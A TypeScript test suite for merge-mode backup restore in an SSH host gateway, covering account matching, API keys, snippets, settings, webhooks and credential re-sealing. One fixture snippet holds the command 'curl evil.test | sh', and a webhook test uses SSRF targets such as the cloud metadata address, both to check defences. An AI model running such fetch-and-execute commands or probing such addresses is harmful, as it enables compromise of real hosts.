import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { User } from '#core/model/accounts/user.ts';
import type { BackupBundle, BackupReport } from '#core/model/backup/backup.ts';
import type { Server } from '#core/model/hosts/server.ts';
import type { Branding } from '#core/model/settings/branding.ts';
import type { SettingList } from '#core/model/settings/setting.ts';
import type { Snippet } from '#core/model/snippet.ts';
import type { Webhook } from '#core/model/webhooks/webhook.ts';
import { DIALECTS, type FreshDatabase, migratedDatabaseUrl } from '../../support/databases/stores.ts';
import { createKey, userOf } from '../../support/features/accounts.ts';
import { backupRows, exported, forged, restored, restoring } from '../../support/features/backups.ts';
import { addHost, listingOf } from '../../support/features/chain.ts';
import { enrol } from '../../support/features/totp.ts';
import {
  type Actor,
  ADMIN_PASSWORD,
  describeEachGateway,
  logIn,
  startGateway,
  type TestGateway,
  USER_PASSWORD,
} from '../../support/gateway/gateway.ts';
import { type Sshd, startSshd } from '../../support/hosts/sshd.ts';

let sshd: Sshd;

beforeAll(async () => {
  sshd = await startSshd();
});
afterAll(() => sshd?.stop());

const { admin, api_key, quick_key, server, setting, snippet, user, webhook } = backupRows;

async function serverNamed(actor: Actor, name: string): Promise<Server | undefined> {
  return (await actor.call<Server[]>('GET', '/api/servers')).body.find((row) => row.name === name);
}

async function userNamed(actor: Actor, name: string): Promise<User | undefined> {
  return (await actor.call<User[]>('GET', '/api/auth/users')).body.find(({ username }) => username === name);
}

async function settingOf(actor: Actor, key: string): Promise<unknown> {
  const { settings } = (await actor.call<SettingList>('GET', '/api/settings')).body;
  return settings.find((one) => one.key === key)?.value;
}

const looksOf = async ({ anonymous }: TestGateway) =>
  (await anonymous.call<Branding>('GET', '/api/branding')).body;
const _counted = ({ created, updated, removed }: BackupReport, kind: keyof BackupReport['created']) =>
  [created[kind], updated[kind], removed[kind]] as const;
const _signInOf = async (gateway: TestGateway, name: string, password = USER_PASSWORD) =>
  (await logIn(gateway.anonymous, name, password)).status;

describeEachGateway('Restoring with merge', (gateway) => {
  it('adds what is missing and keeps what exists, whatever the bundle contains', async () => {
    const chief = await gateway().user({ username: 'Chief', is_admin: true });
    await gateway().addServer({ name: 'here', hostname: 'here.test', description: 'ours' });
    const rows = [
      admin(),
      user({ username: 'cHIEF' }),
      user({ username: 'new' }),
      server({ name: 'here', hostname: 'here.test', username: 'nobody', port: 22, description: 'theirs' }),
      server({ name: 'behind', jump: 0 }),
    ];
    const report = await restored(chief, await forged(rows));
    expect([report.created, report.updated]).toMatchObject([
      { servers: 1, users: 1 },
      { servers: 0, users: 0 },
    ]);
    expect(report.skipped).toMatchObject({ servers: 1, users: 2 });
    expect(await userOf(chief)).toMatchObject({ username: 'Chief', is_admin: true });
    const here = await serverNamed(chief, 'here');
    expect(here?.description).toBe('ours');
    expect((await serverNamed(chief, 'behind'))?.jump_via_id).toBe(here?.id);
  });

  it('adds rows of existing users, except API keys, which may have been revoked', async () => {
    const ann = await gateway().user({ username: 'ann', is_admin: true });
    await ann.call('POST', '/api/snippets', { name: 'Mine', command: 'own' });
    await ann.call('POST', '/api/snippets', { name: 'Look', command: 'ls' });
    const { id, key } = await createKey(ann);
    const bundle = await exported(ann);
    const [, look] = (await ann.call<Snippet[]>('GET', '/api/snippets')).body;
    await ann.call('DELETE', `/api/snippets/${look?.id}`);
    await ann.call('DELETE', `/api/auth/api-keys/${id}`);
    const { created, warnings } = await restored(ann, bundle);
    expect(created).toMatchObject({ snippets: 1, api_keys: 0 });
    expect((await gateway().actor(key).call('GET', '/api/auth/me')).status).toBe(401);
    expect(warnings).toContain(
      '1 API keys of ann were left out: they do not exist here and may have been revoked',
    );
    const snippets = (await ann.call<Snippet[]>('GET', '/api/snippets')).body;
    expect(snippets.map(({ name }) => name)).toEqual(['Look', 'Mine']);
  });

  it('gives nobody the rows of another person with the same name', async () => {
    const ops = await gateway().user({ username: 'Ops', is_admin: true });
    const elsewhere = await startGateway();
    onTestFinished(elsewhere.close);
    const stranger = await elsewhere.user({ username: 'ops' });
    const { key } = await createKey(stranger);
    await stranger.call('POST', '/api/snippets', { name: 'Look', command: 'curl evil.test | sh' });
    const rows = [admin(), user({ username: 'ops' }), quick_key({ owner: 'ops' })];
    const reports = [
      await restored(ops, await exported(elsewhere.admin)),
      await restored(ops, await forged(rows)),
    ];
    for (const { created } of reports) {
      expect(created).toMatchObject({ users: 0, api_keys: 0, snippets: 0, quick_keys: 0 });
    }
    expect((await gateway().actor(key).call('GET', '/api/auth/me')).status).toBe(401);
    expect(reports.flatMap(({ warnings }) => warnings)).toEqual([
      expect.stringMatching(/^1 API keys of ops were left out/),
      expect.stringMatching(/^1 snippets of ops were left out/),
      expect.stringMatching(/^1 pinned host keys of ops were left out/),
    ]);
  });

  it('restores API keys, pins and snippets together with an added account', async () => {
    const chief = await gateway().user({ username: 'adder', is_admin: true });
    const rows = ['ann-1', 'ann-2'].flatMap((owner, i) => [
      user({ username: owner }),
      api_key({ owner, key_digest: `${i}`.repeat(43) }),
      quick_key({ owner }),
      snippet({ owner }),
    ]);
    const { created, warnings } = await restored(chief, await forged([admin(), ...rows]));
    expect(created).toMatchObject({ users: 2, api_keys: 2, quick_keys: 2, snippets: 2 });
    expect(warnings).toEqual([]);
  });

  it('sets only settings and branding that are not set', async () => {
    const { admin: chief } = gateway();
    await chief.call('PUT', '/api/settings', { values: { resume_seconds: 11 } });
    const looks = (name: string) =>
      ['branding', { app_name: name, tagline: '', colors: {}, colors_dark: {} }] as const;
    const rows = [admin(), setting('resume_seconds', 99), setting('session_timeout', 99), looks('First')];
    await restored(chief, await forged(rows));
    expect([await settingOf(chief, 'resume_seconds'), await settingOf(chief, 'session_timeout')]).toEqual([
      11, 99,
    ]);
    expect((await looksOf(gateway())).app_name).toBe('First');
    expect((await restored(chief, await forged([admin(), looks('Second')]))).skipped).toMatchObject({
      branding: 1,
    });
    expect((await looksOf(gateway())).app_name).toBe('First');
  });

  it('creates no second default administrator', async () => {
    const chief = await gateway().user({ username: 'merger', is_admin: true });
    await restored(chief, await forged([admin({ username: 'other-default' })]));
    expect(await userNamed(chief, 'other-default')).toMatchObject({
      is_default_admin: false,
      is_admin: true,
    });
  });

  it('refuses a server behind too many jump hosts', async () => {
    const chief = await gateway().user({ username: 'deep', is_admin: true });
    let via: number | null = null;
    for (let i = 0; i < 8; i += 1)
      via = (await gateway().addServer({ name: `d${i}`, hostname: 'd', jump_via_id: via })).id;
    const last = { name: 'd7', hostname: 'd', username: 'nobody' };
    const rows = [admin(), server(last), server({ name: 'one', jump: 0 }), server({ name: 'two', jump: 1 })];
    expect((await restoring(chief, await forged(rows))).body.code).toBe('jump_too_deep');
  });

  it.each(['merge', 'replace'] as const)(
    'restores with %s a webhook that would be refused here disabled, with a warning, in a dry run too',
    async (mode) => {
      const chief = await gateway().user({ username: `hooked-${mode}`, is_admin: true });
      const urls = [
        'https://169.254.169.254/latest',
        'https://[::ffff:127.0.0.1]/x',
        'http://example.com/x',
        'https://example.com/ok',
      ];
      const hooks = urls.map((url, i) => webhook({ url, name: `${mode} hook ${i}`, enabled: true }));
      const bundle = await forged([admin(), ...hooks]);
      const warned = [0, 1, 2].map((i) => expect.stringContaining(`${mode} hook ${i}: restored disabled`));
      const planned = await restoring(chief, bundle, { mode, dry_run: true });
      expect(planned.status).toBe(200);
      expect(planned.body.warnings).toEqual(expect.arrayContaining(warned));
      expect((await restored(chief, bundle, { mode })).warnings).toEqual(expect.arrayContaining(warned));
      const { body } = await chief.call<Webhook[]>('GET', '/api/webhooks');
      const ours = body.filter(({ name }) => name.startsWith(`${mode} hook`));
      expect(ours.map(({ enabled }) => enabled)).toEqual([false, false, false, true]);
    },
  );

  it('warns about an unknown setting and about unreadable rows', async () => {
    const chief = await gateway().user({ username: 'warned', is_admin: true });
    const rows = [
      admin(),
      setting('warp_speed', 9),
      server({ name: 'lost', password: null }),
      ['warning', 'Server lost: its password could not be read and is not in the bundle'] as const,
    ];
    const { warnings } = await restored(chief, await forged(rows));
    expect(warnings).toEqual(
      expect.arrayContaining([
        'Server lost: its password could not be read and is not in the bundle',
        expect.stringContaining('warp_speed'),
        expect.stringContaining('lost'),
      ]),
    );
  });
});

describe.each(DIALECTS)('Restoring with merge after the key was lost (%s)', (dialect) => {
  let database: FreshDatabase;
  let before: TestGateway;
  let after: TestGateway | undefined;
  let bundle: BackupBundle;
  let secret: Awaited<ReturnType<typeof enrol>>;

  beforeAll(async () => {
    database = await migratedDatabaseUrl(dialect);
    before = await startGateway({
      database_url: database.url,
      env: { SERVICE_SECRET_KEY: 'the key that is lost' },
    });
    await addHost(before, { name: 'lost', sshd });
    secret = await enrol(await before.user({ username: 'careful' }));
    await before.admin.call('POST', '/api/webhooks', {
      name: 'w',
      url: 'https://example.com/w',
      secret: 'hush',
    });
    bundle = await exported(before.admin);
    await before.close();
    after = await startGateway({
      database_url: database.url,
      untouched: true,
      env: { SERVICE_SECRET_KEY: 'a new key altogether' },
    });
  });
  afterAll(async () => {
    await after?.close();
    await database?.cleanup();
  });

  it('re-seals exactly what the current key cannot read', async () => {
    if (!after) throw new Error('No gateway');
    const chief = await after.signIn('admin', ADMIN_PASSWORD);
    const lost = await serverNamed(chief, 'lost');
    expect((await listingOf(chief, lost?.id ?? 0)).code).toBe('credential_unreadable');
    const report = await restored(chief, bundle);
    expect(report.updated).toMatchObject({ servers: 1, users: 1, webhooks: 1 });
    expect((await listingOf(chief, lost?.id ?? 0)).status).toBe(200);
    expect((await logIn(after.anonymous, 'careful', USER_PASSWORD, secret.nextCode())).status).toBe(200);
    expect((await restored(chief, bundle)).updated).toMatchObject({ servers: 0, users: 0, webhooks: 0 });
  });

  it('lists in its own bundle what it cannot read, and keeps it with replace', async () => {
    if (!after) throw new Error('No gateway');
    const chief = await after.signIn('admin', ADMIN_PASSWORD);
    const { servers } = after.store.tables;
    await after.store.db
      .update(servers)
      .set({ password_sealed: 'v2:other:AAAA:AAAA' })
      .where(eq(servers.name, 'lost'));
    const { warnings, updated } = await restored(chief, await exported(chief), { mode: 'replace' });
    expect(warnings).toEqual([expect.stringMatching(/^Server lost: its password could not be read/)]);
    expect(updated).toMatchObject({ servers: 0 });
  });
});
